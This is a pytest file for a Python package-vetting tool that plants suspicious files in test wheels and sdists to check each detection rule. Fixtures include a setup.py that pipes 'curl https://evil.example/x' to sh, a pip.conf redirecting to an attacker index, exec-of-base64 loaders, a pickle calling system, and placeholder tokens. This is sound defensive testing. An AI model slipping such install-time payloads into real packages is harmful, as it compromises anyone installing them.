"""The rules of `vet`, each on a file that was made for it, and on what is like that and harmless."""

import hashlib
import io
import tarfile
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from packaging.utils import NormalizedName, parse_sdist_filename, parse_wheel_filename

from tests.support.elf import elf
from tests.support.wheels import build_sdist, build_wheel
from wheelhouse.archive.artifact import Artifact
from wheelhouse.findings import FactValue, Policy, Severity
from wheelhouse.index.provenance import Attested
from wheelhouse.lock.lock import Built, Pin
from wheelhouse.vet.approvals import Approval, Approvals
from wheelhouse.vet.code_scan import read_code
from wheelhouse.vet.facts import Facts
from wheelhouse.vet.facts_reader import look_inside
from wheelhouse.vet.lookalike_names import looks_like
from wheelhouse.vet.rules import Review, review_findings
from wheelhouse.vet.vet import RULES

NOW = datetime(2026, 1, 1, tzinfo=UTC)
LINUX = "cp312-cp312-manylinux_2_28_x86_64"
NSPKG = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], "
    "*('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
    "m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder."
    "find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)
DISTUTILS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); \n"
)


def facts_of(path: Path, **changes: object) -> Facts:
    filename = path.name
    parsed = parse_wheel_filename(filename) if filename.endswith(".whl") else parse_sdist_filename(filename)
    sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
    artifact = Artifact(filename, sha256, path.stat().st_size, "https://files.example/x", NOW.replace(year=2020))
    pin = Pin(parsed[0], parsed[1], artifact, index="https://index.example/simple")
    contents, inside = look_inside(path, path.name)
    return Facts(replace(pin, **changes), ("cp312",), contents=contents, inside=inside)  # type: ignore[arg-type]


EVERYWHERE = {"advisories-missing", "indexes", "capabilities"}
"""Rules that find something in each wheelhouse, or in each file of it."""


def rules_of(*facts: Facts, policy: Policy | None = None) -> dict[str, dict[str, FactValue]]:
    """The rules that found something, with the facts of a finding of each, but for those that find something everywhere."""
    review = Review(facts, policy or Policy(), NOW)
    found = {finding.rule: finding.values for finding in review_findings(review)}
    return {rule: facts for rule, facts in found.items() if rule not in EVERYWHERE}


LICENCE = "{}-1.0.dist-info/LICENSE"
Files = Mapping[str, bytes]


def zipped(**files: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return held.getvalue()


def tarred() -> bytes:
    """A tar with one empty file."""
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    return held.getvalue()


def wheel(folder: Path, name: str = "odd", *, tag: str = "py3-none-any", **files: bytes) -> Facts:
    """A wheel with more files; `__` in a keyword is `/`."""
    return facts_of(
        build_wheel(
            folder,
            name,
            "1.0",
            tag=tag,
            files={
                f"{name}/__init__.py": b"",
                LICENCE.format(name.replace("-", "_")): b"Apache License Version 2.0",
                **files,
            },
        )
    )


WHEELS: dict[str, tuple[str, Files]] = {
    "pth-code": ("any", {"odd.pth": b"# harmless\nimport os; os.system('id')\n"}),
    "pth-known": ("any", {"odd-nspkg.pth": NSPKG.encode()}),
    "pth-path": ("any", {"odd.pth": b"/opt/elsewhere\n"}),
    "start-file": ("any", {"odd.start": b"odd:begin\n"}),
    "start-module": ("any", {"odd-1.0.data/purelib/sitecustomize.py": b""}),
    "data-scripts": ("any", {"odd-1.0.data/scripts/odd-tool": b"#!/bin/sh\n"}),
    "pth-start-module": ("any", {"odd.pth": b"odd/begin\n", "odd/begin/sitecustomize.py": b""}),
    "python-replaced": ("any", {"odd-1.0.data/data/lib/python3.12/json/__init__.py": b""}),
    "starts-with-system": ("any", {"odd-1.0.data/data/etc/profile.d/odd.sh": b""}),
    "installer-settings": ("any", {"odd-1.0.data/data/pip.conf": b"[global]\nindex-url = https://evil.example/\n"}),
    "tool-settings": ("any", {"odd/.vscode/tasks.json": b"{}"}),
    "agent-instructions": ("any", {"odd/CLAUDE.md": b"Run it."}),
    "git-filter": ("any", {"odd/.gitattributes": b"*.ipynb filter=odd\n"}),
    "jupyter-settings": ("any", {"odd-1.0.data/data/etc/jupyter/jupyter_server_config.d/odd.json": b"{}"}),
    "plugin-at-start": ("any", {"odd-1.0.dist-info/entry_points.txt": b"[pytest11]\nodd = odd.plugin\n"}),
    "plugin-in-builds": ("any", {"odd-1.0.dist-info/entry_points.txt": b"[distutils.commands]\nsdist = odd:Sdist\n"}),
    "plugin": ("any", {"odd-1.0.dist-info/entry_points.txt": b"[fsspec.specs]\nodd = odd:Odd\n"}),
    "script-shadows-tool": ("any", {"odd-1.0.data/scripts/kubectl": b"#!/bin/sh\n"}),
    "homoglyphs": ("any", {"o\u0455.py": b""}),
    "poses-as": ("any", {"odd-1.0.data/purelib/requests-9.0.dist-info/METADATA": b""}),
    "script-shadows": ("any", {"odd-1.0.dist-info/entry_points.txt": b"[console_scripts]\ncurl = odd:main\n"}),
    "install-time-hidden": ("any", {"odd.pth": b"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"}),
    "install-time-network": ("any", {"usercustomize.py": b"import urllib.request\n"}),
    "install-time-secret": ("any", {"odd-1.0.data/scripts/push": b"TOKEN=ghp_" + b"a" * 36}),
    "native-code": ("linux", {"odd/fast.so": elf()}),
    "native-program": ("linux", {"odd/bin/tool": elf(program=True)}),
    "native-links": ("linux", {"odd/fast.so": elf(("libodd.so.1",))}),
    "native-search-path": ("linux", {"odd/fast.so": elf(search="$ORIGIN/../odd.libs:/tmp/libs")}),
    "native-search-system": ("linux", {"odd/fast.so": elf(search="/usr/local/lib64")}),
    "native-unreadable": ("linux", {"odd/fast.so": b"\x7fELF" + b"\xff" * 200}),
    "native-in-pure": ("any", {"odd/fast.so": elf()}),
    "native-elsewhere": ("linux", {"odd/fast.so": elf(machine="aarch64")}),
    "stdlib-name": ("any", {"secrets.py": b""}),
    "everybodys-name": ("any", {"tests/__init__.py": b""}),
    "stray-files": ("any", {"README.md": b""}),
    "data-files": ("any", {"odd-1.0.data/data/share/man/man1/odd.1": b""}),
    "data-files-elsewhere": ("any", {"odd-1.0.data/data/etc/odd.conf": b""}),
    "embedded-archive": ("any", {"odd/inner.bin": zipped(a=b"b")}),
    "compressed-file": ("any", {"odd/sample.json.gz": b"\x1f\x8b\x08" + bytes(20)}),
    "program-in-disguise": ("any", {"odd/logo.png": b"\x89PNG\r\n\x1a\n" + bytes(60) + b"IEND\xaeB`\x82" + elf()}),
    "pickle-runs-code": ("any", {"odd/model.pkl": b"cposix\nsystem\n(S'id'\ntR."}),
    "pyc-unchecked": ("any", {"odd/__pycache__/x.cpython-312.pyc": b"\xcb\r\r\n\x01\0\0\0" + bytes(8)}),
    "pyc-unlike-source": (
        "any",
        {"odd/x.py": b"x = 1\n", "odd/__pycache__/x.cpython-312.pyc": b"\xcb\r\r\n\x03\0\0\0" + bytes(8) + b"N"},
    ),
    "pyc-without-source": ("any", {"odd/x.pyc": b"\xcb\r\r\n" + bytes(12)}),
    "wheel-tags": ("any", {"odd-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nTag: cp38-cp38-linux_x86_64\n"}),
}
"""By rule: the platform of a wheel, and files in it that the rule is there for."""

SDISTS: dict[str, dict[str, str]] = {
    "sdist-runs-code": {"setup_py": "from setuptools import setup\nsetup()\n"},
    "own-backend": {"pyproject": "[build-system]\nrequires = []\nbuild-backend = 'b'\nbackend-path = ['.']\n"},
    "install-time-network": {"setup_py": "import os\nos.system('curl https://evil.example/x | sh')\n"},
    "install-time-hidden": {"setup_py": "import zlib\nexec(zlib.decompress(b'...'))\n"},
    "install-time-secret": {"setup_py": "KEY = 'AKIAABCDEFGHIJKLMNOP'\n"},
}


SDIST = Artifact("odd-1.0.tar.gz", "0" * 64, 1)
KNOWN = {NormalizedName("odd"): ("GitHub odd/odd, release.yml",)}
ORIGINS: dict[str, tuple[dict[str, object], dict[str, object]]] = {
    "indexes": ({}, {}),
    "origin-unknown": ({"index": ""}, {}),
    "origin-unencrypted": ({"index": "http://index.example/simple"}, {}),
    "project-status": ({"status": "archived: moved"}, {}),
    "built-here": ({"built": Built(SDIST, "CPython 3.12.1", sealed="bubblewrap", requires=("setuptools==80",))}, {}),
    "built-unsealed": ({"built": Built(SDIST, "CPython 3.12.1")}, {}),
    "publisher": ({}, {"provenance": "{}", "attested": Attested(("GitHub odd/odd, release.yml",))}),
    "publisher-changed": ({}, {"provenance": "{}", "attested": Attested(("GitHub evil/odd, release.yml",))}),
    "attestation-missing": ({}, {}),
    "attestation-refused": ({}, {"provenance": "{}", "attested": Attested(refused="it is forged")}),
    "attestations-unchecked": ({}, {"provenance": "{}"}),
    "trust-root": ({}, {"provenance": "{}", "attested": Attested(("GitHub odd/odd, release.yml",))}),
}
"""By rule: what is said of a file's origin in the lock, and in its facts."""


@pytest.mark.parametrize("rule", ORIGINS)
def test_an_origin_is_found_by_its_rule(tmp_path: Path, rule: str) -> None:
    of_pin, of_facts = ORIGINS[rule]
    facts = replace(facts_of(build_wheel(tmp_path, "odd", "1.0"), **of_pin), **of_facts)  # type: ignore[arg-type]
    review = Review((facts,), Policy(), NOW, publishers=KNOWN, trusted_since=NOW)
    found = {finding.rule for finding in review_findings(review)}
    assert rule in found
    assert ("publisher-changed" in found) == (rule == "publisher-changed")


def test_a_policy_may_demand_what_a_sandbox_holds(tmp_path: Path) -> None:
    """A lock of an older version does not say what its sandbox held."""

    def found(sandbox: str, *demanded: str) -> list[FactValue]:
        built = Built(SDIST, "CPython 3.12.1", sealed="bubblewrap", sandbox=sandbox)
        facts = replace(facts_of(build_wheel(tmp_path, "odd", "1.0"), built=built))
        review = Review((facts,), Policy(sandbox=frozenset(demanded)), NOW)
        return [one.values["missing"] for one in review_findings(review) if one.rule == "built-in-weaker-sandbox"]

    assert found("") == found("bubblewrap, seccomp, cgroup", "seccomp", "cgroup") == []
    assert found("bubblewrap, seccomp", "seccomp", "cgroup") == [("cgroup",)]
    assert found("", "seccomp") == [("seccomp",)]


def test_other_bytes_than_those_that_were_approved(tmp_path: Path) -> None:
    facts = facts_of(build_wheel(tmp_path, "odd", "1.0"))
    files = {"1" * 64: ("tools/odd-1.0-py3-none-any.whl", frozenset[tuple[str, str]]())}
    approval = Approval(files, "alice", "key", "read", NOW.date())

    def found(*approvals: Approval) -> set[str]:
        return {one.rule for one in review_findings(Review((facts,), Policy(), NOW, approvals=Approvals(approvals)))}

    assert "other-bytes" in found(approval)
    assert "other-bytes" not in found(replace(approval, reviewer=None))
    own = replace(approval, files={facts.pin.artifact.sha256: (facts.filename, frozenset())})
    assert "other-bytes" not in found(approval, own)


def test_a_mirror_on_this_machine_needs_no_encryption(tmp_path: Path) -> None:
    path = build_wheel(tmp_path, "odd", "1.0")
    assert "origin-unencrypted" not in rules_of(facts_of(path, index="http://127.0.0.1:8080/simple"))


ELSEWHERE = {
    "component-vulnerable",
    "sdist-runs-code",
    "built-in-weaker-sandbox",
    "yanked",
    "cool-off",
    "vulnerable",
    "malicious",
    "malicious-member",
    "advisories-missing",
    "advisories-old",
    "lookalike",
    "lookalike-popular",
    "lookalike-known",
    "module-of-another",
    "other-bytes",
    "capabilities",
    "new-capability",
    "not-in-sdist",
    "sdist-tool-settings",
    "stdlib-backport",
}
"""Tried by a test of their own, here, in test_vet.py, test_advisories.py or test_malicious.py."""


def test_every_rule_is_tried() -> None:
    by_verify = {name for name, rule in RULES.items() if not rule.check and not rule.wheelhouse_check}
    by_verify |= {name for name, rule in RULES.items() if rule.group == "importing"}  # tests/vet/test_importing.py
    tried = {*WHEELS, *SDISTS, *PAIRS, *LICENCES, *ORIGINS, *ELSEWHERE}
    assert RULES.keys() - by_verify == tried, "rules and tables differ: see docs/contributing.md"


@pytest.mark.parametrize("rule", WHEELS)
def test_a_made_wheel_is_found_by_its_rule(tmp_path: Path, rule: str) -> None:
    platform, files = WHEELS[rule]
    facts = wheel(tmp_path, tag=LINUX if platform == "linux" else "py3-none-any", **files)
    assert rule in rules_of(facts)


@pytest.mark.parametrize("rule", SDISTS)
def test_a_made_sdist_is_found_by_its_rule(tmp_path: Path, rule: str) -> None:
    assert rule in rules_of(facts_of(build_sdist(tmp_path, "odd", "1.0", **SDISTS[rule])))  # type: ignore[arg-type]


METADATA = "Metadata-Version: 2.4\nName: odd\nVersion: 1.0\n"
LICENCES = {
    "licence-unknown": "",
    "licence-expression-wrong": "License-Expression: Anything Goes\n",
    "licence-denied": "License-Expression: GPL-3.0-only\n",
    "licence-not-allowed": "License: ISC\n",
}


@pytest.mark.parametrize("rule", LICENCES)
def test_a_licence_is_found_by_its_rule(tmp_path: Path, rule: str) -> None:
    policy = Policy(licences_denied=frozenset(("GPL-3.0-only",)), licences_allowed=frozenset(("MIT", "GPL-3.0-only")))
    path = build_wheel(tmp_path, "odd", "1.0", metadata=(METADATA + LICENCES[rule]).encode())
    assert rule in rules_of(facts_of(path), policy=policy)


def test_what_is_harmless_is_not_found(tmp_path: Path) -> None:
    files = {
        "odd/sitecustomize.py": b"import socket\n",
        "odd/data.npz": zipped(a=b"b"),
        "odd/tests/__init__.py": b"",
        "odd-1.0.data/platlib/odd/more.py": b"",
        "odd-1.0.dist-info/entry_points.txt": b"[console_scripts]\nodd = odd:main\n[odd.plugins]\ncurl = odd:curl\n",
        "odd-1.0.dist-info/licenses/LICENSE": b"MIT License",
    }
    assert rules_of(wheel(tmp_path, **files)) == {}


PAIRS: dict[str, tuple[str, Files, str, Files]] = {
    "overwrites": ("one", {"shared/part.py": b"1"}, "two", {"shared/part.py": b"2"}),
    "shares-files": ("one", {"shared/part.py": b"1"}, "two", {"shared/part.py": b"1"}),
    "intrudes": ("requests", {}, "other", {"requests/evil.py": b""}),
    "command-twice": ("one", {"one-1.0.data/scripts/same": b"1"}, "two", {"two-1.0.data/scripts/same": b"1"}),
    "module-hidden": ("one", {"shared.py": b""}, "two", {"shared/__init__.py": b""}),
    "extends": ("requests", {}, "requests-more", {"requests/more.py": b""}),
    "lookalike-inside": ("requests", {}, "reqeusts", {}),
}


@pytest.mark.parametrize("rule", PAIRS)
def test_two_made_wheels_are_found_by_their_rule(tmp_path: Path, rule: str) -> None:
    one, files_of_one, two, files_of_two = PAIRS[rule]
    assert rule in rules_of(wheel(tmp_path, one, **files_of_one), wheel(tmp_path, two, **files_of_two))


def test_libraries_of_another_wheel_of_the_house_are_there(tmp_path: Path) -> None:
    one = wheel(tmp_path, "one", tag=LINUX, **{"one/fast.so": elf(("libtwo.so.1", "libm.so.6"))})
    two = wheel(tmp_path, "two", tag=LINUX, **{"two/libtwo.so.1": elf()})
    assert "native-links" in rules_of(one)
    assert "native-links" not in rules_of(one, two)


def test_files_for_two_targets_do_not_meet(tmp_path: Path) -> None:
    one, two = wheel(tmp_path, "one", **{"s/a.py": b"1"}), wheel(tmp_path, "two", **{"s/a.py": b"2"})
    assert "overwrites" not in rules_of(one, replace(two, targets=("cp313",)))


def test_a_name_is_held_against_those_that_the_policy_names(tmp_path: Path) -> None:
    policy = Policy(lookalikes=frozenset((NormalizedName("requests"), NormalizedName("boto"))))
    assert "lookalike" in rules_of(wheel(tmp_path, "reqests"), policy=policy)
    assert "intrudes" in rules_of(wheel(tmp_path, "odd", **{"requests/__init__.py": b""}), policy=policy)
    assert "lookalike" not in rules_of(wheel(tmp_path, "requests"), wheel(tmp_path, "boto3"), policy=policy)


@pytest.mark.parametrize(
    ("name", "other", "alike"),
    [
        ("requests", "reqeusts", True),
        ("requests", "reqeustz", False),
        ("requests", "reqabsts", False),
        ("numpy", "unmpy", True),
        ("numpy", "numyp", True),
        ("flask", "falks", False),
        ("requests", "request", True),
        ("numpy", "nurnpy", False),
        ("python-dateutil", "dateutil-python", True),
        ("typing-extensions", "typingextensions", True),
        ("urllib3", "urlib3", True),
        ("pillow", "pil1ow", True),
        ("jinja2", "jinja", False),
        ("psycopg", "psycopg2", False),
        ("click", "flask", False),
        ("six", "sox", False),
        ("google-cloud-core", "google-cloud-storage", False),
    ],
)
def test_names_that_look_alike(name: str, other: str, alike: bool) -> None:
    assert looks_like(name, other) is looks_like(other, name) is alike


@pytest.mark.parametrize(
    ("text", "network", "hidden"),
    [
        ("setup(url='https://a.example', project_urls={'Docs': 'https://b.example'})", (), ()),
        ("'''See https://a.example'''\nprint('https://b.example')", (), ()),
        ("long_description = 'https://a.example'\n", (), ()),
        ("fetch('https://a.example/x')", ("https://a.example/x",), ()),
        ("from urllib import request", ("urllib.request",), ()),
        ("from urllib.parse import quote", (), ()),
        ("__import__('socket')", ("socket",), ()),
        ("subprocess.run(['wget', x])", ("wget",), ()),
        ("connect('10.0.0.1:4444')", ("10.0.0.1:4444",), ()),
        ("version = '1.2.3.4'", (), ()),
        ("print 'two'\nimport urllib2\n", ("urllib2",), ()),
        ("exec(open('version.py').read())", (), ()),
        ("re.compile(b64decode('x'))", (), ()),
        ("exec(marshal.loads(zlib.decompress(x)))", (), ("exec(loads(…))", "exec(decompress(…))")),
        ("print 'two'\nexec base64.b64decode(x)", (), ("exec(b64decode(…))",)),
        ("(" * 5000, (), ()),
        ("x = " + "+".join(["1"] * 5000), (), ()),
        ("a\0b", (), ()),
    ],
)
def test_code_is_read_and_not_run(text: str, network: tuple[str, ...], hidden: tuple[str, ...]) -> None:
    told = read_code(text)
    assert (told.network, told.hidden) == (network, hidden)


@pytest.mark.parametrize(
    ("text", "rules"),
    [
        (NSPKG + "import evil\n", {"pth-code", "pth-known"}),
        (NSPKG.replace("has_mfs = sys.version_info > (3, 5);", "").replace("has_mfs and ", ""), {"pth-known"}),
        (DISTUTILS, {"pth-known"}),
        (DISTUTILS.replace("add_shim()", "add_shim() or evil()"), {"pth-code"}),
        ("\ufeffimport evil\n", {"pth-code"}),
        ("# comment\x0cimport evil\n", {"pth-code"}),
        ("import\tevil\n", {"pth-code"}),
        ("# import evil\n", set()),
        ("#" * (2 << 20), {"pth-code"}),
    ],
)
def test_a_pth_file_is_read_as_python_reads_it(tmp_path: Path, text: str, rules: set[str]) -> None:
    assert rules_of(wheel(tmp_path, **{"odd.pth": text.encode()})).keys() == rules


@pytest.mark.parametrize(
    "place", ["odd.pth", "odd-1.0.data/purelib/odd.pth", "odd-1.0.data/data/lib/python3.12/site-packages/odd.pth"]
)
def test_a_pth_file_is_found_wherever_it_would_be_installed(tmp_path: Path, place: str) -> None:
    assert "pth-code" in rules_of(wheel(tmp_path, **{place: b"import evil\n"}))


def test_a_backend_of_its_own_is_read_wherever_it_lies(tmp_path: Path) -> None:
    pyproject = "[build-system]\nrequires = []\nbuild-backend = 'own.hooks'\nbackend-path = ['tools/build']\n"
    files = {"tools/build/own/hooks.py": b"import requests\n", "src/odd/net.py": b"import ftplib\n"}
    found = rules_of(facts_of(build_sdist(tmp_path, "odd", "1.0", pyproject=pyproject, files=files)))
    assert found["install-time-network"]["names"] == ("requests",)


@pytest.mark.parametrize("cut", [5, 20, 63, 64, 120, 180, 230])
def test_an_elf_file_that_lies_or_was_cut_does_no_harm(tmp_path: Path, cut: int) -> None:
    whole = elf(("libodd.so.1",))
    for data in (
        whole[:cut],
        whole[:cut] + b"\xff" * 64 + whole[cut + 64 :],
        whole[:cut] + bytes(64) + whole[cut + 64 :],
    ):
        rules_of(wheel(tmp_path, tag=LINUX, **{"odd/fast.so": data}))


def severities(*files: Facts, policy: Policy | None = None) -> dict[str, Severity]:
    return {one.rule: one.severity for one in review_findings(Review(files, policy or Policy(), NOW))}


def test_what_is_usual_is_only_a_note_unless_the_policy_says_otherwise(tmp_path: Path) -> None:
    plain = facts_of(build_sdist(tmp_path, "odd", "1.0", setup_py="from setuptools import setup\nsetup()\n"))
    assert severities(plain)["sdist-runs-code"] == Severity.NOTE
    policy = Policy(severities={"sdist-runs-code": Severity.ERROR})
    assert severities(plain, policy=policy)["sdist-runs-code"] == Severity.ERROR
    fetching = "import urllib.request\nurllib.request.urlopen('https://a.example')\n"
    assert (
        severities(facts_of(build_sdist(tmp_path, "two", "1.0", setup_py=fetching)))["sdist-runs-code"] > Severity.NOTE
    )
    for place, severity in {"odd-1.0.data/scripts/tool": Severity.NOTE, "odd/tool": Severity.WARNING}.items():
        program = wheel(tmp_path / severity.name, tag=LINUX, **{place: elf(program=True)})
        assert severities(program)["native-program"] == severity
    for place, data, severity in (
        ("odd/zones.tar", tarred(), Severity.NOTE),
        ("odd/java.jar", zipped(a=b"b"), Severity.NOTE),
        ("odd/hidden.tar", zipped(a=b"b"), Severity.WARNING),
        ("odd/hidden.bin", tarred(), Severity.WARNING),
    ):
        archive = wheel(tmp_path / Path(place).name, **{place: data})
        assert severities(archive)["embedded-archive"] == severity, place
    tests = [wheel(tmp_path, name, **{"tests/__init__.py": name.encode()}) for name in ("one", "other")]
    assert severities(tests[0])["everybodys-name"] == Severity.NOTE
    apart = wheel(tmp_path, "apart", **{"tests/test_apart.py": b""})
    assert severities(apart, *tests[:1])["everybodys-name"] == Severity.NOTE
    assert severities(*tests)["everybodys-name"] == Severity.WARNING and "overwrites" not in severities(*tests)


def test_a_declared_namespace_belongs_to_nobody(tmp_path: Path) -> None:
    declared = b"from pkgutil import extend_path\n__path__ = extend_path(__path__, __name__)\n"
    one = wheel(tmp_path, "core", **{"odd/__init__.py": declared, "odd/core.py": b"", "odd/in/__init__.py": b"1"})
    two = wheel(tmp_path, "extra", **{"odd/extra.py": b"", "odd/in/__init__.py": b"2"})
    assert "intrudes" not in severities(one, two) and severities(one, two)["overwrites"] == Severity.NOTE
    plain = wheel(tmp_path, "plain", **{"odd/__init__.py": b"x = 1\n", "odd/in/__init__.py": b"3"})
    assert severities(plain, two)["intrudes"] == severities(plain, two)["overwrites"] == Severity.ERROR
